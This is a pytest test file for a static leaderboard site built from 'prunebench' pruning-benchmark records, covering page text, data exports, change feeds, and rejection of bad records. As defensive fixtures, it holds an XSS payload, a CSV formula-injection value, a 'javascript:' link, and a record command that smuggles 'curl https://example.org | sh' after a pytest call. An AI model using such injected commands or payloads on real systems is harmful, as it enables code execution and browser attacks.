from __future__ import annotations

import json
import os
import re
import subprocess
import sys
import urllib.request
from collections.abc import Callable
from html import unescape
from pathlib import Path
from typing import Any
from urllib.parse import unquote
from xml.etree import ElementTree

import pytest

from leaderboard.site.challenges import Challenge, Rerun
from leaderboard.site.collect import NoRecordsError, export
from leaderboard.site.pages import SiteError, build, build_from
from prunebench.judging.observation import CRIPPLED
from prunebench.protocol import tables
from prunebench.records.parts import Interval, Size, Subject
from prunebench.records.record import ClaimRecord, Record, dump, load
from prunebench.specs.experiment import PROTOCOL

HOSTILE = "</script><script>alert(1)</script><img src=x onerror=alert(2)>"

Make = Callable[..., Record]
MakeClaim = Callable[..., ClaimRecord]


def text_of(page: Path) -> str:
    return re.sub(r"\s+", " ", unescape(re.sub(r"<[^>]*>", " ", page.read_text())))


def page_of(stem: Path) -> str:
    return stem.with_name(f"{stem.name}.html").read_text()


def groups_of(site: Path) -> list[Any]:
    return json.loads((site / "data" / "site.js").read_text().removeprefix("pb.site=").removesuffix(";\n"))["groups"]


def build_command(folder: Path, *arguments: str) -> subprocess.CompletedProcess[str]:
    environment = {key: value for key, value in os.environ.items() if key != "MLFLOW_TRACKING_URI"}
    command = [sys.executable, "-m", "leaderboard", "build", *arguments]
    return subprocess.run(command, cwd=folder, capture_output=True, text=True, check=False, env=environment)


def test_index_has_the_answer_strongest_evidence_first(tmp_path: Path, make_record: Make) -> None:
    quick = make_record("t4.strong", tier="quick", dataset=Subject(name="CIFAR-10", used="cifar10 32x32"))
    build([make_record(), make_record("t4.low", levels={"scratch_b": 80.0}), quick], tmp_path / "site")
    text = text_of(tmp_path / "site" / "index.html")
    assert "2 distinct results: 1 better , 1 worse" in text
    assert "scikit-learn's digits, small networks: shows that the machinery works, never the paper's result" in text
    assert text.index("VGG-19 on CIFAR-10, slimming 70 %") < text.index("Small VGG (73 k parameters) on scikit-learn")
    assert "What is compared Dense the whole network, trained for 12 epochs" in text


def test_row_has_its_record_and_seeds_as_files(tmp_path: Path, make_record: Make) -> None:
    record = make_record(same_as=["t4.other"])
    build([record], tmp_path)
    stem = tmp_path / "rows" / "smoke" / "t4.cifar10.vgg-19.70"
    assert load(stem.with_name(f"{stem.name}.json").read_text()) == record
    (seeds,) = re.findall(r'href="data:text/csv,([^"]*)" download="t4.cifar10.vgg-19.70.csv"', page_of(stem))
    lines = unquote(seeds).splitlines()
    assert lines[0] == "arm,seed,epochs,accuracy,best_accuracy,seconds,digest"
    assert len(lines) == 1 + 6 * 3
    assert lines[1].startswith(f"dense,0,12,{record.arms['dense'].accuracy[0]:g},")


@pytest.mark.parametrize(
    ("convention", "said"), [("paper", "as the paper counts them"), ("dispatcher", "would miss more than 1 %")]
)
def test_row_names_what_its_flops_count(tmp_path: Path, make_record: Make, convention: str, said: str) -> None:
    size = Size(parameters=73_450, flops=4_812_800, convention=convention)
    record = make_record(dense=size)
    assert ('"convention"' in dump(record)) == (convention == "dispatcher"), "left out where it is the paper's"
    assert load(dump(record)).dense == size
    build([record], tmp_path)
    (page,) = (tmp_path / "rows" / "smoke").glob("*.html")
    assert said in page.read_text()


def test_all_data_stand_in_one_file_of_rows_and_one_of_verdicts(
    tmp_path: Path, make_record: Make, make_claim: MakeClaim
) -> None:
    from pyarrow import parquet

    record = make_record(method=Subject(name="=1+1", used=""))
    build([record, make_record("b", tier="paper"), make_claim()], tmp_path)
    rows = parquet.read_table(tmp_path / "data" / "rows.parquet").to_pylist()
    assert [row["group"] for row in rows] == ["paper", "smoke"]
    assert [row["row"] for row in rows] == ["b", record.row]
    assert rows[1]["gap"] == pytest.approx(record.verdicts[0].difference, abs=5e-4)
    assert rows[1]["method"] == "=1+1"
    text = (tmp_path / "data" / "rows.csv").read_text()
    assert ",'=1+1," in text, "a spreadsheet would run it"
    verdicts = parquet.read_table(tmp_path / "data" / "verdicts.parquet").to_pylist()
    assert [(one["row"], one["test"]) for one in verdicts] == [
        ("b", ""),
        (record.row, ""),
        ("", "c08-scratch-b-beats-finetune"),
    ]
    assert {one["finding"] for one in verdicts} == {"better"}


def test_lines_to_repeat_a_record_are_those_that_prunebench_writes(tmp_path: Path, make_record: Make) -> None:
    good = make_record("good", command='pytest claims -k "a and b" --pb-tier smoke --pb-seeds 3')
    bad = make_record("bad", command="pytest claims -k a; curl https://example.org | sh")
    build([good, bad], tmp_path)
    text = text_of(tmp_path / "rows" / "smoke" / "good.html")
    assert "git checkout 0123456789ab python3 -m venv .venv && . .venv/bin/activate" in text
    assert "pytest claims -k '(a and b and C08)' --pb-tier smoke --pb-seeds 3" in text
    text = text_of(tmp_path / "rows" / "smoke" / "bad.html")
    assert "curl" not in text
    assert "The command in this record is none that prunebench writes" in text


def test_methods_have_badges_and_say_what_was_never_run(tmp_path: Path, make_record: Make) -> None:
    build([make_record()], tmp_path)
    badge = (tmp_path / "badges" / "slimming.svg").read_text()
    assert "prunebench slimming: from scratch: 1 better (smoke)" in badge
    text = text_of(tmp_path / "methods" / "slimming.html")
    assert "Liu et al. 2017" in text
    known = sum(row.method == "slimming" for row in tables.load().rows.values())
    missing = f"{known - 1} of the paper's {known} rows with slimming: PreResNet-164 on CIFAR-10, slimming 40 %"
    assert f"smoke {missing}" in text
    assert f"paper {known} of the paper's {known} rows" in text


def test_changes_are_told_from_the_history(tmp_path: Path, make_record: Make) -> None:
    git = ["git", "-C", str(tmp_path), "-c", "user.name=me", "-c", "user.email=me@example.org"]
    subprocess.run([*git, "init", "-q"], check=True)
    for levels, message in (({}, "Two rows"), ({"scratch_b": 80.0}, "Worse <b>now</b>")):
        export([make_record("a", levels=levels), make_record("b")], tmp_path / "records")
        subprocess.run([*git, "add", "."], check=True)
        subprocess.run([*git, "commit", "-qm", message], check=True)
    assert build_command(tmp_path, "--records", "records").returncode == 0
    text = text_of(tmp_path / "site" / "changes.html")
    assert re.search(
        r"Worse <b>now</b> 1 record touched, commit \w+ : smoke a : supported \(\+.*\) → refuted \(−", text
    )
    assert re.search(
        r"Two rows 2 records touched, commit \w+ : smoke a : new, supported .* smoke b : new, supported", text
    )
    feed = ElementTree.parse(tmp_path / "site" / "changes.atom").getroot()
    atom = "{http://www.w3.org/2005/Atom}"
    assert [one.findtext(f"{atom}title") for one in feed.iter(f"{atom}entry")] == ["Worse <b>now</b>", "Two rows"]
    first = next(feed.iter(f"{atom}content")).text
    assert (first or "").startswith("smoke/a: changed, supported")


def test_old_addresses_lead_on(tmp_path: Path, make_record: Make) -> None:
    build([make_record()], tmp_path)
    assert 'content="0; url=index.html"' in (tmp_path / "plots.html").read_text()
    for kept in ("index", "methods", "claims", "claims/C08", "methods/slimming", "rows/smoke/t4.cifar10.vgg-19.70"):
        assert (tmp_path / f"{kept}.html").is_file()


def test_rows_that_value_weights_and_architecture_come_first(tmp_path: Path, make_record: Make) -> None:
    value = Interval(difference=1.0, lower=0.5, upper=1.5, confidence=0.95, n=[3, 3])
    build([make_record("a"), make_record("z", values={"architecture": value}), make_record("b")], tmp_path)
    (lines,) = (tmp_path / "data" / "rows").glob("*.js")
    found = [lines.read_text().index(f'"{row}"') for row in ("z", "a", "b")]
    assert found == sorted(found)


def test_protocols_are_told_apart_as_tiers_are(tmp_path: Path, make_record: Make) -> None:
    records = [make_record(), make_record(protocol=PROTOCOL + 1), make_record(tier="smoke~2", row="taken")]
    assert build(records, tmp_path) == []
    groups = groups_of(tmp_path)
    assert [(group["tier"], group["protocol"]) for group in groups if group["tier"] == "smoke"] == [
        ("smoke", PROTOCOL + 1),
        ("smoke", PROTOCOL),
    ]
    pages = [page.parent.name for page in tmp_path.glob("rows/*/*.html")]
    assert len(pages) == len(set(pages)) == len(groups) == 3


def test_second_record_of_a_row_is_left_out_wherever_it_stands(tmp_path: Path, make_record: Make) -> None:
    first, same, second = make_record(notes=["first"]), make_record(notes=["first"]), make_record(notes=["second"])
    skipped = build([first, same, second], tmp_path)
    page = tmp_path / "rows" / "smoke" / f"{first.row}.html"
    assert skipped == [f"{first.row}: a second, different record of {first.row} in tier smoke; the first one is kept"]
    assert "<li>first</li>" in page.read_text()
    assert groups_of(tmp_path)[0]["size"] == 1


def test_text_of_a_record_is_only_ever_data(tmp_path: Path, make_record: Make, make_claim: MakeClaim) -> None:
    subject = Subject(name=HOSTILE, used=HOSTILE)
    texts = {"row": f"../{HOSTILE}", "tier": HOSTILE, "title": HOSTILE, "notes": [HOSTILE], "command": HOSTILE}
    record = make_record(**texts, dataset=subject, network=subject, method=subject, claims=[HOSTILE], same_as=[HOSTILE])
    arms = {HOSTILE: record.arms["scratch_b"]} | record.arms
    claim = make_claim(statement=HOSTILE, paper=HOSTILE, rows=[HOSTILE], tier=HOSTILE, claim=HOSTILE)
    build([record.model_copy(update={"arms": arms}), claim], tmp_path / "site")
    assert [path.name for path in tmp_path.iterdir()] == ["site"]
    for page in (tmp_path / "site").rglob("*.html"):
        assert not re.search(r"<img src=x|<script>", page.read_text())
    for script in (tmp_path / "site" / "data").rglob("*.js"):
        assert "</script" not in script.read_text()


def test_pages_ask_no_other_machine(tmp_path: Path, make_record: Make) -> None:
    build([make_record()], tmp_path)
    for page in tmp_path.rglob("*.html"):
        for tag, address in re.findall(r'<(\w+)[^>]*\s(?:src|href)="([^"]*)"', page.read_text()):
            is_link = tag == "a" and address.startswith("https://")
            if not is_link and not address.startswith(("#", "data:")):
                assert (page.parent / address.partition("#")[0]).is_file(), address
    assert "@import" not in (tmp_path / "assets" / "style.css").read_text()


def test_second_build_leaves_the_same_bytes_and_no_stale_page(tmp_path: Path, make_record: Make) -> None:
    site = tmp_path / "site"
    build([make_record(), make_record("stale")], site)
    build([make_record()], site)
    first = {path: path.read_bytes() for path in site.rglob("*") if path.is_file()}
    assert not any("stale" in path.name for path in first)
    build([make_record()], site)
    assert {path: path.read_bytes() for path in site.rglob("*") if path.is_file()} == first
    assert [path.name for path in tmp_path.iterdir()] == ["site"]


def test_folder_with_other_things_and_site_without_records_are_left_alone(tmp_path: Path, make_record: Make) -> None:
    (tmp_path / "thesis.tex").write_text("years of work")
    with pytest.raises(SiteError, match="holds other things than a site; give --out"):
        build([make_record()], tmp_path)
    with pytest.raises(NoRecordsError, match="no records given"):
        build([], tmp_path / "site")
    assert [path.name for path in tmp_path.iterdir()] == ["thesis.tex"]


def test_command_builds_what_can_be_read_and_names_what_cannot(tmp_path: Path, make_record: Make) -> None:
    records = tmp_path / "records"
    export([make_record(), make_record("odd", method=Subject(name="a/b..<script>", used=""))], records)
    (records / "half.json").write_text(dump(make_record("half"))[:900])
    (records / "long.json").write_text(dump(make_record("long", method=Subject(name="m" * 10_000, used=""))))
    (records / "other.json").write_text('{"schema_version": 2}')
    (records / "poor.json").write_text('{"schema_version": 1, "kind": "row"}')
    (tmp_path / "held.yaml").write_text("[{row: odd, tier: smoke, by: me, reason: odd, link: 'javascript:x'}]")
    done = build_command(tmp_path, "--records", "records", "--challenges", "held.yaml")
    assert done.returncode == 0
    assert done.stdout == "2 records -> site/index.html\n"
    lines = done.stderr.splitlines()
    assert [line.partition(":")[0] for line in lines] == [f"skipped {name}" for name in (
        "held.yaml", "half.json", "long.json", "other.json", "poor.json")]  # fmt: skip
    assert "link is 'javascript:x'; it must start with https://" in lines[0]
    assert "the name of its method has 10,000 characters; 1 to 200 can be shown" in lines[2]
    assert "a record of schema 2; this prunebench reads schema 1" in lines[3]
    assert "protocol: Field required" in lines[4]
    assert len(list((tmp_path / "site" / "methods").iterdir())) == 2


def test_bad_records_are_left_out_with_a_line_each_and_end_no_build(
    tmp_path: Path, make_record: Make, make_claim: MakeClaim
) -> None:
    damages = ["1e308", "1" + "0" * 400, "NaN", "-Infinity", '"\\ud800"', "[" * 100_000, "{", "\\"]
    records = tmp_path / "records"
    bad = [make_record(f"bad{i}") for i in range(len(damages))] + [make_claim(f"worse{i}") for i in range(len(damages))]
    export([make_record("good"), *bad], records)
    for i, damage in enumerate(damages):
        for name, at in ((f"bad{i}", '"ratio": 0.7'), (f"worse{i}", '"power": 0.93')):
            file = records / "smoke" / f"{name}.json"
            file.write_text(file.read_text().replace(at, f"{at.partition(':')[0]}: {damage}"))
    done = build_command(tmp_path, "--records", "records")
    assert (done.returncode, done.stdout) == (0, "1 records -> site/index.html\n")
    lines = done.stderr.splitlines()
    names = {line.partition(": no record")[0].removeprefix("skipped smoke/") for line in lines}
    assert names == {f"{kind}{i}.json" for kind in ("bad", "worse") for i in range(len(damages))}
    assert all(len(line) < 300 for line in lines)


def test_challenges_stand_beside_their_record(tmp_path: Path, make_record: Make) -> None:
    challenge = Challenge("t4.cifar10.vgg-19.70", "smoke", "me", "Too few seeds.")
    other = Challenge("t9", "smoke", "me", "No such row.")
    skipped = build([make_record()], tmp_path, {("smoke", challenge.row): [challenge], ("smoke", "t9"): [other]})
    assert skipped == ["challenge by me: there is no record of t9 in tier smoke"]
    text = text_of(tmp_path / "rows" / "smoke" / f"{challenge.row}.html")
    assert "Challenged , see below." in text
    assert "Challenged by me: Too few seeds." in text
    assert '"challenged"' in (tmp_path / "data" / "rows" / "smoke.0.js").read_text()


def test_a_rerun_stands_on_the_page_of_its_row(tmp_path: Path, make_record: Make) -> None:
    again = Rerun("a", "smoke", "M. Aintainer", "2026-11-27", "abc123", "the same numbers to the last image")
    records = [("a", make_record("a")), ("b", make_record("b"))]
    build_from(records, tmp_path, {}, reruns={("smoke", "a"): [again]})
    said = "Run again by M. Aintainer on 2026-11-27 at commit abc123 : the same numbers to the last image."
    assert said in text_of(tmp_path / "rows" / "smoke" / "a.html")
    assert "Nobody has run it again yet." in text_of(tmp_path / "rows" / "smoke" / "b.html")


def test_command_without_records_says_what_to_run(tmp_path: Path) -> None:
    done = build_command(tmp_path)
    assert done.returncode == 1
    assert re.fullmatch(r"error: nothing is logged in sqlite:///.*mlflow.db; `pytest claims .*\n", done.stderr)
    assert list(tmp_path.iterdir()) == []


def test_serve_shows_the_site_on_this_machine(tmp_path: Path, make_record: Make) -> None:
    export([make_record()], tmp_path / "records")
    command = [sys.executable, "-u", "-m", "leaderboard", "serve", "--records", "records", "--port", "0"]
    with subprocess.Popen(
        command, cwd=tmp_path, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True
    ) as server:
        try:
            assert server.stdout is not None
            lines = [server.stdout.readline(), server.stdout.readline()]
            address = lines[1].split()[0]
            assert address.startswith("http://127.0.0.1:")
            with urllib.request.urlopen(address, timeout=10) as answer:
                assert b"Are pruned networks good" in answer.read()
        finally:
            server.terminate()


def test_a_claim_test_can_be_challenged(tmp_path: Path, make_claim: MakeClaim) -> None:
    one, other = (Challenge(name, "smoke", "me", "why") for name in ("c08", "c9"))
    held = {("smoke", challenge.row): [challenge] for challenge in (one, other)}
    said = build([make_claim("c08")], tmp_path / "site", held)
    assert said == ["challenge by me: there is no record of c9 in tier smoke"]
    assert "Challenged by me: why" in text_of(tmp_path / "site" / "claims" / "C08.html")


def test_a_crippled_arm_is_flagged_in_the_table(tmp_path: Path, make_record: Make) -> None:
    build([make_record("a"), make_record("b", notes=[f"finetune stands 40 {CRIPPLED}"])], tmp_path)
    assert (tmp_path / "data" / "rows" / "smoke.0.js").read_text().count('"crippled"') == 1
